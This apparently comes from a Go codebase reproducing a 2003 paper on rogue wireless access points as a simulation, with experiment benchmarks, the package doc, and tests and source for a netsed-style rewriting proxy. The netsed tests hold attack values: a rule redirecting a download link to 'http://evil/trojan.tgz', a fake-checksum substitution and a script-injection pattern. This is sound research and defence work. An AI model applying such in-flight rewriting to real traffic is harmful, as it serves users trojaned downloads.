package repro

// One benchmark per reproduced experiment (DESIGN.md E1–E12). Each iteration
// regenerates the experiment's table at a small scale and sanity-checks its
// headline cell, so `go test -bench=.` both times the simulation and
// re-verifies the paper's qualitative results.

import (
	"fmt"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/experiments"
	"repro/internal/sim"
)

// benchScale keeps iterations fast; cmd/experiments runs the full scale.
var benchScale = experiments.Scale{Trials: 2, Quick: true}

func benchTable(b *testing.B, fn func(experiments.Scale) experiments.Table, check func(t experiments.Table) bool) {
	b.Helper()
	for i := 0; i < b.N; i++ {
		tbl := fn(benchScale)
		if check != nil && !check(tbl) {
			b.Fatalf("%s: headline result did not reproduce:\n%s", tbl.ID, tbl.String())
		}
	}
}

// BenchmarkE1AssociationCapture — Figure 1's capture mechanics: the nearby
// rogue must win the victim's association every time.
func BenchmarkE1AssociationCapture(b *testing.B) {
	benchTable(b, experiments.E1AssociationCapture, func(t experiments.Table) bool {
		return t.Rows[0][2] == "100%" && t.Rows[len(t.Rows)-1][2] == "0%"
	})
}

// BenchmarkE2DownloadMITM — Figure 2's download attack: compromise across
// open, WEP, and WEP+MAC-filter configurations.
func BenchmarkE2DownloadMITM(b *testing.B) {
	benchTable(b, experiments.E2DownloadMITM, func(t experiments.Table) bool {
		for _, r := range t.Rows {
			if r[1] != "100%" {
				return false
			}
		}
		return true
	})
}

// BenchmarkE2bBoundary — §4.2's netsed packet-boundary limitation and the
// streaming fix.
func BenchmarkE2bBoundary(b *testing.B) {
	benchTable(b, experiments.E2bBoundary, func(t experiments.Table) bool {
		miss := false
		for _, r := range t.Rows {
			if r[1] == "MISSED" {
				miss = true
			}
			if r[2] != "yes" {
				return false
			}
		}
		return miss
	})
}

// BenchmarkE2cContentInjection — §5.1: script injection into a trusted page.
func BenchmarkE2cContentInjection(b *testing.B) {
	benchTable(b, experiments.E2cContentInjection, func(t experiments.Table) bool {
		return t.Rows[0][2] == "100%" && t.Rows[1][2] == "0%"
	})
}

// BenchmarkE3VPNDefense — Figure 3: full tunnel clean, split tunnel still
// compromised.
func BenchmarkE3VPNDefense(b *testing.B) {
	benchTable(b, experiments.E3VPNDefense, func(t experiments.Table) bool {
		return t.Rows[0][1] == "100%" && t.Rows[1][2] == "100%" &&
			t.Rows[2][3] != "0" && t.Rows[3][1] == "100%"
	})
}

// BenchmarkE4FMSCrack — Airsnort's key recovery and the weak-IV-avoidance
// ablation.
func BenchmarkE4FMSCrack(b *testing.B) {
	benchTable(b, experiments.E4FMSCrack, func(t experiments.Table) bool {
		return t.Rows[0][4] == "yes" && t.Rows[len(t.Rows)-1][4] == "MISSED"
	})
}

// BenchmarkE5MACFilterBypass — §2.1: ACLs stop unlisted MACs, not cloned
// ones.
func BenchmarkE5MACFilterBypass(b *testing.B) {
	benchTable(b, experiments.E5MACFilterBypass, func(t experiments.Table) bool {
		return t.Rows[0][1] == "0%" && t.Rows[1][1] == "100%"
	})
}

// BenchmarkE6TCPoverTCP — §5.3: the TCP-in-TCP carrier pathology under
// wireless loss.
func BenchmarkE6TCPoverTCP(b *testing.B) {
	benchTable(b, experiments.E6TCPoverTCP, nil)
}

// BenchmarkE7Detection — §2.3: monitoring-based rogue detection.
func BenchmarkE7Detection(b *testing.B) {
	benchTable(b, experiments.E7Detection, func(t experiments.Table) bool {
		return t.Rows[0][2] != "0%" // cloned rogue detected
	})
}

// BenchmarkE8Eavesdrop — §1.1: wireless broadcast vs switched-wire
// visibility.
func BenchmarkE8Eavesdrop(b *testing.B) {
	benchTable(b, experiments.E8Eavesdrop, func(t experiments.Table) bool {
		return t.Rows[0][2] == "yes" && t.Rows[1][2] != "yes" &&
			t.Rows[2][2] != "yes" && t.Rows[3][2] == "yes"
	})
}

// BenchmarkE9Overhead — the defense's cost on a healthy network.
func BenchmarkE9Overhead(b *testing.B) {
	benchTable(b, experiments.E9Overhead, func(t experiments.Table) bool {
		for _, r := range t.Rows {
			if strings.Contains(r[1], "failed") {
				return false
			}
		}
		return true
	})
}

// BenchmarkE2dHostileHotspot — §1.2.2: the operator-is-the-attacker class.
func BenchmarkE2dHostileHotspot(b *testing.B) {
	benchTable(b, experiments.E2dHostileHotspot, func(t experiments.Table) bool {
		return t.Rows[1][2] == "100%" && t.Rows[2][1] == "100%"
	})
}

// BenchmarkE10DeauthStorm — the deauth storm is survivable without a rogue
// and sticky with one.
func BenchmarkE10DeauthStorm(b *testing.B) {
	benchTable(b, experiments.E10DeauthStorm, func(t experiments.Table) bool {
		return t.Rows[1][2] == "100%" && t.Rows[1][3] == "0%" && t.Rows[3][3] == "100%"
	})
}

// BenchmarkE11APOutage — the tunnel survives an AP reboot on every carrier.
func BenchmarkE11APOutage(b *testing.B) {
	benchTable(b, experiments.E11APOutage, func(t experiments.Table) bool {
		for _, r := range t.Rows {
			if r[2] != "100%" {
				return false
			}
		}
		return true
	})
}

// BenchmarkChaosDigestMatrix times the (seed × schedule) chaos matrix and
// asserts its determinism contract on every iteration: each point must
// converge with invariant checks enabled and replay to the exact digest of a
// baseline run taken before timing starts. CI runs this at -benchtime 1x, so
// any change that shifts a chaos digest — e.g. reintroducing one of the
// map-iteration-order bugs simvet guards against — fails the benchmark, not
// just the slower sweep tests.
func BenchmarkChaosDigestMatrix(b *testing.B) {
	seeds := []uint64{1, 7, 42}
	schedules := []string{"deauth-storm", "ap-restart", "burst-loss"}
	runPoint := func(seed uint64, schedule string) uint64 {
		b.Helper()
		o, err := core.RunScenarioFaults("healthy", seed, true, schedule)
		if err != nil {
			b.Fatalf("seed %d schedule %q: %v", seed, schedule, err)
		}
		if !o.Converged {
			b.Fatalf("seed %d schedule %q: did not converge", seed, schedule)
		}
		if o.Digest == 0 {
			b.Fatalf("seed %d schedule %q: zero digest", seed, schedule)
		}
		return o.Digest
	}
	baseline := make(map[string]uint64)
	for _, seed := range seeds {
		for _, schedule := range schedules {
			baseline[fmt.Sprintf("%d/%s", seed, schedule)] = runPoint(seed, schedule)
		}
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, seed := range seeds {
			for _, schedule := range schedules {
				key := fmt.Sprintf("%d/%s", seed, schedule)
				if got := runPoint(seed, schedule); got != baseline[key] {
					b.Fatalf("seed %d schedule %q: digest diverged from baseline: %016x != %016x",
						seed, schedule, got, baseline[key])
				}
			}
		}
	}
}

// BenchmarkE12BurstLoss — downloads complete through bursty air.
func BenchmarkE12BurstLoss(b *testing.B) {
	benchTable(b, experiments.E12BurstLoss, func(t experiments.Table) bool {
		return t.Rows[0][1] == "100%" && t.Rows[1][1] == "100%"
	})
}

// BenchmarkE13FirstHopRogue — the hostile first hop on the mesh is caught
// end to end while the per-hop links stay blind, and the download survives.
func BenchmarkE13FirstHopRogue(b *testing.B) {
	benchTable(b, experiments.E13FirstHopRogue, func(t experiments.Table) bool {
		return t.Rows[1][1] == "100%" && t.Rows[1][2] != "0.0" && t.Rows[1][3] == "0.0"
	})
}

// BenchmarkE14RelayChainChaos — the mesh tunnel recovers from every chaos
// schedule, rekeying into the same session across relay failover.
func BenchmarkE14RelayChainChaos(b *testing.B) {
	benchTable(b, experiments.E14RelayChainChaos, func(t experiments.Table) bool {
		for _, r := range t.Rows {
			if r[1] != "100%" || r[2] != "100%" {
				return false
			}
		}
		return true
	})
}

// BenchmarkE15CampusScale — campus-scale rogue capture on the sharded
// medium: full association at every size, with the rogue's catch bounded by
// its one interference neighborhood.
func BenchmarkE15CampusScale(b *testing.B) {
	benchTable(b, experiments.E15CampusScale, func(t experiments.Table) bool {
		return len(t.Rows) == 2 && t.Rows[0][2] == "100%" && t.Rows[1][2] == "100%"
	})
}

// BenchmarkCampusWorld — raw campus throughput: build a 64-AP/1024-station
// world (rogue included) and run two simulated seconds of join/scan/traffic,
// reporting kernel events per wall-clock second.
func BenchmarkCampusWorld(b *testing.B) {
	var events uint64
	for i := 0; i < b.N; i++ {
		w := core.NewCampusWorld(core.CampusConfig{
			Seed:  1,
			Rogue: true,
			Topology: core.TopologyConfig{
				Kind: core.TopoCampus, Seed: 1, APs: 64, STAs: 1024,
			},
		})
		events += w.Kernel.RunFor(2 * sim.Second)
	}
	b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/sec")
	b.ReportMetric(float64(b.N)*2/b.Elapsed().Seconds(), "simsec/wallsec")
}

// BenchmarkCampusWorldParallel — the same 64-AP/1024-station world on the
// conservative-window kernel (DESIGN.md §14) at 1 and 4 prepare lanes,
// timing two simulated seconds of STEADY STATE: construction and the
// join/scan opening (six untimed seconds — joins stagger over two, the scan
// ladder a few more) are excluded, because scan retunes invalidate in-flight
// prepares and would measure the staleness path, not the parallel kernel.
// The workers=4 over workers=1 simsec/wallsec ratio is the parallel speedup
// scripts/bench_check.sh gates on multi-core hosts. Digests are
// byte-identical across all variants — that is the windowed kernel's
// contract, enforced by the digest-stability tests, so this bench only has
// to measure.
func BenchmarkCampusWorldParallel(b *testing.B) {
	for _, workers := range []int{1, 4} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			var events uint64
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				w := core.NewCampusWorld(core.CampusConfig{
					Seed:    1,
					Rogue:   true,
					Workers: workers,
					Topology: core.TopologyConfig{
						Kind: core.TopoCampus, Seed: 1, APs: 64, STAs: 1024,
					},
				})
				w.Run(6 * sim.Second)
				b.StartTimer()
				events += w.Kernel.RunFor(2 * sim.Second)
			}
			b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/sec")
			b.ReportMetric(float64(b.N)*2/b.Elapsed().Seconds(), "simsec/wallsec")
		})
	}
}
