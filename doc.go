// Package repro is a from-scratch Go reproduction of "Countering Rogues in
// Wireless Networks" (Godber & Dasgupta, ICPP Workshops 2003): a
// deterministic discrete-event simulation of 802.11b (PHY, MAC, WEP), the
// wired substrate (Ethernet, ARP, IPv4, TCP/UDP), the attacker's toolkit
// (rogue AP, parprouted bridge, Netfilter DNAT, netsed, FMS cracking, deauth
// forcing), the paper's VPN-everything defense, and the monitoring-based
// rogue detectors.
//
// Start with DESIGN.md for the system inventory, EXPERIMENTS.md for the
// reproduced results, examples/ for runnable walkthroughs, and
// cmd/experiments to regenerate every table. The repository-root benchmarks
// (bench_test.go) time one regeneration of each experiment.
package repro
