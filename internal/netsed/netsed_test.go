package netsed

import (
	"bytes"
	"testing"
	"testing/quick"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
	"repro/internal/tcp"
)

func TestParseRule(t *testing.T) {
	r, err := ParseRule("s/href=file.tgz/href=http:%2f%2fevil%2ftrojan.tgz")
	if err != nil {
		t.Fatal(err)
	}
	if string(r.From) != "href=file.tgz" {
		t.Fatalf("from %q", r.From)
	}
	if string(r.To) != "href=http://evil/trojan.tgz" {
		t.Fatalf("to %q (escapes not decoded)", r.To)
	}
}

func TestParseRuleMaxHits(t *testing.T) {
	r, err := ParseRule("s/a/b/3")
	if err != nil || r.MaxHits != 3 {
		t.Fatalf("r=%+v err=%v", r, err)
	}
}

func TestParseRuleErrors(t *testing.T) {
	for _, s := range []string{"", "x/a/b", "s/a", "s/a/b/c/d", "s//b", "s/a%2/b", "s/a%zz/b", "s/a/b/0"} {
		if _, err := ParseRule(s); err == nil {
			t.Errorf("ParseRule(%q) accepted", s)
		}
	}
}

func TestChunkRewriterReplacesWithinChunk(t *testing.T) {
	r, _ := ParseRule("s/REALSUM/FAKESUM")
	cw := NewChunkRewriter([]*Rule{r})
	out := cw.Rewrite([]byte("checksum: REALSUM here"))
	if string(out) != "checksum: FAKESUM here" {
		t.Fatalf("out %q", out)
	}
	if r.Hits != 1 {
		t.Fatalf("hits %d", r.Hits)
	}
	if tail := cw.Flush(); len(tail) != 0 {
		t.Fatal("chunk rewriter held bytes")
	}
}

func TestChunkRewriterMissesBoundary(t *testing.T) {
	// The paper's §4.2 limitation, reproduced exactly.
	r, _ := ParseRule("s/REALSUM/FAKESUM")
	cw := NewChunkRewriter([]*Rule{r})
	a := cw.Rewrite([]byte("xxREAL"))
	b := cw.Rewrite([]byte("SUMxx"))
	joined := string(a) + string(b)
	if joined != "xxREALSUMxx" {
		t.Fatalf("joined %q (chunk mode should have missed)", joined)
	}
	if r.Hits != 0 {
		t.Fatal("phantom hit recorded")
	}
}

func TestStreamRewriterCatchesBoundary(t *testing.T) {
	r, _ := ParseRule("s/REALSUM/FAKESUM")
	sw := NewStreamRewriter([]*Rule{r})
	var out bytes.Buffer
	out.Write(sw.Rewrite([]byte("xxREAL")))
	out.Write(sw.Rewrite([]byte("SUMxx")))
	out.Write(sw.Flush())
	if out.String() != "xxFAKESUMxx" {
		t.Fatalf("out %q", out.String())
	}
	if r.Hits != 1 {
		t.Fatalf("hits %d", r.Hits)
	}
}

func TestStreamRewriterByteAtATime(t *testing.T) {
	r, _ := ParseRule("s/pattern/REPLACED")
	sw := NewStreamRewriter([]*Rule{r})
	input := []byte("before pattern after pattern end")
	var out bytes.Buffer
	for _, c := range input {
		out.Write(sw.Rewrite([]byte{c}))
	}
	out.Write(sw.Flush())
	if out.String() != "before REPLACED after REPLACED end" {
		t.Fatalf("out %q", out.String())
	}
}

func TestStreamRewriterHonoursMaxHits(t *testing.T) {
	r, _ := ParseRule("s/aa/bb/2")
	sw := NewStreamRewriter([]*Rule{r})
	var out bytes.Buffer
	out.Write(sw.Rewrite([]byte("aa aa aa aa")))
	out.Write(sw.Flush())
	if out.String() != "bb bb aa aa" {
		t.Fatalf("out %q", out.String())
	}
}

func TestStreamRewriterNoFalseHold(t *testing.T) {
	// Text ending with a non-prefix must not be withheld.
	r, _ := ParseRule("s/zzz/yyy")
	sw := NewStreamRewriter([]*Rule{r})
	out := sw.Rewrite([]byte("plain text"))
	if string(out) != "plain text" {
		t.Fatalf("out %q", out)
	}
}

// Property: stream rewriting over any chunking equals whole-buffer rewrite.
func TestQuickStreamEqualsWhole(t *testing.T) {
	f := func(data []byte, cuts []uint8) bool {
		rWhole, _ := ParseRule("s/abc/XYZQ")
		whole := applyRules([]*Rule{rWhole}, append([]byte(nil), data...))

		rStream, _ := ParseRule("s/abc/XYZQ")
		sw := NewStreamRewriter([]*Rule{rStream})
		var out bytes.Buffer
		rest := data
		for _, c := range cuts {
			if len(rest) == 0 {
				break
			}
			n := int(c)%len(rest) + 1
			out.Write(sw.Rewrite(rest[:n]))
			rest = rest[n:]
		}
		if len(rest) > 0 {
			out.Write(sw.Rewrite(rest))
		}
		out.Write(sw.Flush())
		return bytes.Equal(out.Bytes(), whole)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestApplyRulesOrdering(t *testing.T) {
	// Rules apply in order; a later rule can see an earlier rule's output.
	r1, _ := ParseRule("s/a/b")
	r2, _ := ParseRule("s/bb/c")
	out := applyRules([]*Rule{r1, r2}, []byte("ab"))
	if string(out) != "c" {
		t.Fatalf("out %q", out)
	}
}

func TestApplyRulesGrowingReplacementTerminates(t *testing.T) {
	// A replacement containing its own pattern must not loop: scanning
	// resumes after the spliced text, like real netsed.
	r := &Rule{From: []byte("x"), To: []byte("xx")}
	out := applyRules([]*Rule{r}, []byte("axa"))
	if string(out) != "axxa" || r.Hits != 1 {
		t.Fatalf("out=%q hits=%d", out, r.Hits)
	}
	// The §5.1 injection shape: <body> -> <body><script>.
	r2 := &Rule{From: []byte("<body>"), To: []byte("<body><script>")}
	out2 := applyRules([]*Rule{r2}, []byte("<html><body>hi</body>"))
	if string(out2) != "<html><body><script>hi</body>" || r2.Hits != 1 {
		t.Fatalf("out=%q hits=%d", out2, r2.Hits)
	}
}

// proxyWorld: client — [gateway running netsed] — server, all wired.
type proxyWorld struct {
	k      *sim.Kernel
	client *tcp.Stack
	proxy  *Proxy
	server *tcp.Stack
}

func newProxyWorld(t *testing.T, cfg Config) *proxyWorld {
	t.Helper()
	k := sim.NewKernel(1)
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	prefix := inet.MustParsePrefix("10.0.0.0/24")

	ipC := ipv4.NewStack(k, "client")
	ipC.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr("10.0.0.1"), prefix)
	ipG := ipv4.NewStack(k, "gw")
	ipG.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr("10.0.0.254"), prefix)
	ipS := ipv4.NewStack(k, "server")
	ipS.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr("10.0.0.80"), prefix)

	gtcp := tcp.NewStack(ipG)
	cfg.Upstream = inet.MustParseHostPort("10.0.0.80:80")
	cfg.ListenPort = 10101
	p, err := Start(gtcp, cfg)
	if err != nil {
		t.Fatal(err)
	}
	return &proxyWorld{k: k, client: tcp.NewStack(ipC), proxy: p, server: tcp.NewStack(ipS)}
}

func TestProxyRewritesServerToClient(t *testing.T) {
	w := newProxyWorld(t, Config{Rules: []string{"s/REALMD5SUM/FAKEMD5SUM"}})
	l, _ := w.server.Listen(80)
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) {
			_ = c.Write([]byte("the sum is REALMD5SUM ok"))
			c.Close()
		}
	}
	c, _ := w.client.Dial(inet.MustParseHostPort("10.0.0.254:10101"))
	var got []byte
	eof := false
	c.OnConnect = func() { _ = c.Write([]byte("GET /")) }
	c.OnData = func(b []byte) { got = append(got, b...) }
	c.OnEOF = func() { eof = true }
	w.k.RunUntil(20 * sim.Second)
	if !eof {
		t.Fatal("no EOF relayed")
	}
	if string(got) != "the sum is FAKEMD5SUM ok" {
		t.Fatalf("got %q", got)
	}
	if w.proxy.ReplacementsIn != 1 {
		t.Fatalf("ReplacementsIn = %d", w.proxy.ReplacementsIn)
	}
}

func TestProxyClientToServerUntouchedByDefault(t *testing.T) {
	w := newProxyWorld(t, Config{Rules: []string{"s/SECRET/XXXXXX"}})
	l, _ := w.server.Listen(80)
	var atServer []byte
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) { atServer = append(atServer, b...) }
	}
	c, _ := w.client.Dial(inet.MustParseHostPort("10.0.0.254:10101"))
	c.OnConnect = func() { _ = c.Write([]byte("my SECRET query")) }
	w.k.RunUntil(10 * sim.Second)
	if string(atServer) != "my SECRET query" {
		t.Fatalf("server got %q", atServer)
	}
}

func TestProxyRewriteBothDirections(t *testing.T) {
	w := newProxyWorld(t, Config{Rules: []string{"s/SECRET/XXXXXX"}, RewriteClientToServer: true})
	l, _ := w.server.Listen(80)
	var atServer []byte
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) { atServer = append(atServer, b...) }
	}
	c, _ := w.client.Dial(inet.MustParseHostPort("10.0.0.254:10101"))
	c.OnConnect = func() { _ = c.Write([]byte("my SECRET query")) }
	w.k.RunUntil(10 * sim.Second)
	if string(atServer) != "my XXXXXX query" {
		t.Fatalf("server got %q", atServer)
	}
}

func TestProxyStreamingCatchesSegmentBoundary(t *testing.T) {
	// Server sends the pattern split across two writes (two TCP segments):
	// chunk mode misses, streaming mode catches.
	run := func(streaming bool) string {
		w := newProxyWorld(t, Config{Rules: []string{"s/REALMD5SUM/FAKEMD5SUM"}, Streaming: streaming})
		l, _ := w.server.Listen(80)
		l.OnAccept = func(c *tcp.Conn) {
			c.OnData = func(b []byte) {
				_ = c.Write([]byte("sum: REALMD"))
				// Force a segment boundary: second half later.
				w.k.After(50*sim.Millisecond, func() {
					_ = c.Write([]byte("5SUM done"))
					c.Close()
				})
			}
		}
		c, _ := w.client.Dial(inet.MustParseHostPort("10.0.0.254:10101"))
		var got []byte
		c.OnConnect = func() { _ = c.Write([]byte("GET")) }
		c.OnData = func(b []byte) { got = append(got, b...) }
		w.k.RunUntil(20 * sim.Second)
		return string(got)
	}
	if got := run(false); got != "sum: REALMD5SUM done" {
		t.Fatalf("chunk mode got %q, should have missed the split pattern", got)
	}
	if got := run(true); got != "sum: FAKEMD5SUM done" {
		t.Fatalf("streaming mode got %q, should have caught the split pattern", got)
	}
}

func TestProxyRelaysLargeBody(t *testing.T) {
	w := newProxyWorld(t, Config{Rules: []string{"s/needle/NEEDLE"}, Streaming: true})
	body := bytes.Repeat([]byte("haystack "), 20_000) // ~180 KB
	copy(body[100_000:], []byte("needle"))
	l, _ := w.server.Listen(80)
	l.OnAccept = func(c *tcp.Conn) {
		c.OnData = func(b []byte) {
			_ = c.Write(body)
			c.Close()
		}
	}
	c, _ := w.client.Dial(inet.MustParseHostPort("10.0.0.254:10101"))
	var got []byte
	c.OnConnect = func() { _ = c.Write([]byte("GET")) }
	c.OnData = func(b []byte) { got = append(got, b...) }
	w.k.RunUntil(sim.Minute)
	if len(got) != len(body) {
		t.Fatalf("relayed %d/%d bytes", len(got), len(body))
	}
	if !bytes.Contains(got, []byte("NEEDLE")) {
		t.Fatal("replacement not applied in large body")
	}
	if w.proxy.Connections != 1 {
		t.Fatalf("Connections = %d", w.proxy.Connections)
	}
}

func TestProxyUpstreamRefusedAbortsClient(t *testing.T) {
	w := newProxyWorld(t, Config{Rules: nil})
	// No server listening on 10.0.0.80:80.
	c, _ := w.client.Dial(inet.MustParseHostPort("10.0.0.254:10101"))
	var closeErr error
	gotClose := false
	c.OnClose = func(err error) { gotClose = true; closeErr = err }
	c.OnConnect = func() { _ = c.Write([]byte("GET")) }
	w.k.RunUntil(20 * sim.Second)
	if !gotClose {
		t.Fatal("client not torn down when upstream refused")
	}
	_ = closeErr
}

// ParseRule must never panic on arbitrary rule strings.
func TestQuickParseRuleNoPanic(t *testing.T) {
	f := func(s string) bool {
		_, _ = ParseRule(s)
		_, _ = ParseRule("s/" + s)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
