// Package netsed reimplements M. Zalewski's netsed, the userspace TCP proxy
// the paper uses to rewrite the victim's software-download page in flight
// (Figure 2): it listens on a local port (fed by the Netfilter DNAT rule),
// connects onward to the real destination, and applies s/from/to rules to
// the stream.
//
// The paper notes (§4.2) that "netsed will not match strings that cross
// packet boundaries" and that this "could easily be addressed by someone
// with malicious intent". Both behaviours are implemented: ChunkRewriter is
// the paper-faithful per-segment matcher, StreamRewriter carries state
// across segments and never misses. Experiment E2b quantifies the
// difference.
package netsed

import (
	"bytes"
	"fmt"
	"strings"

	"repro/internal/inet"
	"repro/internal/tcp"
)

// Rule is one substitution. Patterns are fixed byte strings (netsed is not a
// regex engine). MaxHits 0 means unlimited.
type Rule struct {
	From, To []byte
	MaxHits  int
	// Hits counts applied substitutions.
	Hits int
}

// ParseRule parses netsed's rule syntax "s/from/to[/maxhits]" with %XX
// URL-style escapes (the paper uses %2f to embed slashes).
func ParseRule(s string) (*Rule, error) {
	if !strings.HasPrefix(s, "s/") {
		return nil, fmt.Errorf("netsed: rule %q does not start with s/", s)
	}
	parts := strings.Split(s[2:], "/")
	if len(parts) != 2 && len(parts) != 3 {
		return nil, fmt.Errorf("netsed: rule %q must be s/from/to[/maxhits]", s)
	}
	from, err := unescape(parts[0])
	if err != nil {
		return nil, err
	}
	to, err := unescape(parts[1])
	if err != nil {
		return nil, err
	}
	if len(from) == 0 {
		return nil, fmt.Errorf("netsed: empty pattern in %q", s)
	}
	r := &Rule{From: from, To: to}
	if len(parts) == 3 {
		if _, err := fmt.Sscanf(parts[2], "%d", &r.MaxHits); err != nil || r.MaxHits < 1 {
			return nil, fmt.Errorf("netsed: bad maxhits in %q", s)
		}
	}
	return r, nil
}

func unescape(s string) ([]byte, error) {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '%' {
			if i+2 >= len(s) {
				return nil, fmt.Errorf("netsed: truncated %%XX escape in %q", s)
			}
			hi, ok1 := unhex(s[i+1])
			lo, ok2 := unhex(s[i+2])
			if !ok1 || !ok2 {
				return nil, fmt.Errorf("netsed: bad %%XX escape in %q", s)
			}
			out = append(out, hi<<4|lo)
			i += 2
			continue
		}
		out = append(out, c)
	}
	return out, nil
}

func unhex(c byte) (byte, bool) {
	switch {
	case '0' <= c && c <= '9':
		return c - '0', true
	case 'a' <= c && c <= 'f':
		return c - 'a' + 10, true
	case 'A' <= c && c <= 'F':
		return c - 'A' + 10, true
	}
	return 0, false
}

// Rewriter transforms a byte stream chunk by chunk. Flush returns any held
// tail when the stream ends.
type Rewriter interface {
	Rewrite(chunk []byte) []byte
	Flush() []byte
}

// ChunkRewriter applies rules within each chunk independently — original
// netsed behaviour. Patterns spanning chunk (TCP segment) boundaries are
// missed; the paper calls this out as a limitation of its proof of concept.
type ChunkRewriter struct {
	rules []*Rule
}

// NewChunkRewriter builds a paper-faithful rewriter. The rules are used (and
// their hit counters advanced) in order.
func NewChunkRewriter(rules []*Rule) *ChunkRewriter { return &ChunkRewriter{rules: rules} }

// Rewrite implements Rewriter.
func (c *ChunkRewriter) Rewrite(chunk []byte) []byte {
	return applyRules(c.rules, chunk)
}

// Flush implements Rewriter (chunk mode holds nothing back).
func (c *ChunkRewriter) Flush() []byte { return nil }

// StreamRewriter applies rules across chunk boundaries by withholding the
// longest possible pattern prefix at each chunk's tail — the "easily
// addressed" fix the paper anticipates.
type StreamRewriter struct {
	rules []*Rule
	held  []byte
	// maxPat is the longest pattern; the rewriter holds back up to
	// maxPat-1 bytes between chunks.
	maxPat int
}

// NewStreamRewriter builds a boundary-safe rewriter.
func NewStreamRewriter(rules []*Rule) *StreamRewriter {
	maxPat := 0
	for _, r := range rules {
		if len(r.From) > maxPat {
			maxPat = len(r.From)
		}
	}
	return &StreamRewriter{rules: rules, maxPat: maxPat}
}

// Rewrite implements Rewriter.
func (s *StreamRewriter) Rewrite(chunk []byte) []byte {
	buf := append(s.held, chunk...)
	s.held = nil
	out := applyRules(s.rules, buf)
	// Hold back the longest suffix of out that is a proper prefix of any
	// pattern, so a split match can complete next chunk.
	hold := 0
	for _, r := range s.rules {
		if r.MaxHits > 0 && r.Hits >= r.MaxHits {
			continue
		}
		limit := len(r.From) - 1
		if limit > len(out) {
			limit = len(out)
		}
		for n := limit; n > hold; n-- {
			if bytes.Equal(out[len(out)-n:], r.From[:n]) {
				hold = n
				break
			}
		}
	}
	if hold > 0 {
		s.held = append([]byte(nil), out[len(out)-hold:]...)
		out = out[:len(out)-hold]
	}
	return out
}

// Flush implements Rewriter.
func (s *StreamRewriter) Flush() []byte {
	out := s.held
	s.held = nil
	return out
}

// applyRules performs in-order fixed-string substitution respecting MaxHits.
// Scanning resumes after each replacement (netsed's behaviour), so a
// replacement containing its own pattern — like splicing markup after a tag
// — cannot loop.
func applyRules(rules []*Rule, b []byte) []byte {
	for _, r := range rules {
		if r.MaxHits > 0 && r.Hits >= r.MaxHits {
			continue
		}
		from := 0
		for from <= len(b)-len(r.From) {
			i := bytes.Index(b[from:], r.From)
			if i < 0 {
				break
			}
			at := from + i
			nb := make([]byte, 0, len(b)-len(r.From)+len(r.To))
			nb = append(nb, b[:at]...)
			nb = append(nb, r.To...)
			nb = append(nb, b[at+len(r.From):]...)
			b = nb
			from = at + len(r.To)
			r.Hits++
			if r.MaxHits > 0 && r.Hits >= r.MaxHits {
				break
			}
		}
	}
	return b
}

// Proxy is the netsed process: it accepts TCP connections on a local port
// and splices each one to a fixed upstream destination, rewriting both
// directions. The command line from the paper —
//
//	netsed tcp 10101 Target-IP 80 s/href=file.tgz/.../ s/REALMD5SUM/FAKEMD5SUM
//
// maps to Config{ListenPort: 10101, Upstream: Target-IP:80, Rules: ...}.
type Proxy struct {
	tcpStack *tcp.Stack
	cfg      Config

	// Connections counts accepted client connections; BytesRewritten is
	// total traffic relayed client-ward after rewriting.
	Connections    uint64
	BytesRelayed   uint64
	ReplacementsIn int // rewrites applied on upstream->client data
}

// Config configures a Proxy.
type Config struct {
	ListenPort inet.Port
	Upstream   inet.HostPort
	Rules      []string
	// Streaming selects the boundary-safe rewriter (paper's suggested
	// improvement); false reproduces original netsed's per-segment
	// matching.
	Streaming bool
	// RewriteClientToServer also applies rules upstream-ward (netsed does
	// both directions; the paper's attack only needs server->client).
	RewriteClientToServer bool
}

// Start launches the proxy on the host's TCP stack.
func Start(t *tcp.Stack, cfg Config) (*Proxy, error) {
	p := &Proxy{tcpStack: t, cfg: cfg}
	l, err := t.Listen(cfg.ListenPort)
	if err != nil {
		return nil, err
	}
	l.OnAccept = p.onAccept
	return p, nil
}

// newRewriter parses this proxy's rules into a fresh per-connection
// rewriter (each connection gets independent hit counters, like netsed).
func (p *Proxy) newRewriter() (Rewriter, []*Rule, error) {
	rules := make([]*Rule, 0, len(p.cfg.Rules))
	for _, s := range p.cfg.Rules {
		r, err := ParseRule(s)
		if err != nil {
			return nil, nil, err
		}
		rules = append(rules, r)
	}
	if p.cfg.Streaming {
		return NewStreamRewriter(rules), rules, nil
	}
	return NewChunkRewriter(rules), rules, nil
}

func (p *Proxy) onAccept(client *tcp.Conn) {
	p.Connections++
	down, rules, err := p.newRewriter()
	if err != nil {
		client.Abort()
		return
	}
	var up Rewriter
	if p.cfg.RewriteClientToServer {
		upr := make([]*Rule, len(rules))
		for i, r := range rules {
			cp := *r
			upr[i] = &cp
		}
		if p.cfg.Streaming {
			up = NewStreamRewriter(upr)
		} else {
			up = NewChunkRewriter(upr)
		}
	}

	server, err := p.tcpStack.Dial(p.cfg.Upstream)
	if err != nil {
		client.Abort()
		return
	}
	var pendingToServer [][]byte
	serverUp := false

	client.OnData = func(b []byte) {
		if up != nil {
			b = up.Rewrite(b)
		}
		if !serverUp {
			pendingToServer = append(pendingToServer, append([]byte(nil), b...))
			return
		}
		_ = server.Write(b)
	}
	client.OnEOF = func() {
		if serverUp {
			if up != nil {
				if tail := up.Flush(); len(tail) > 0 {
					_ = server.Write(tail)
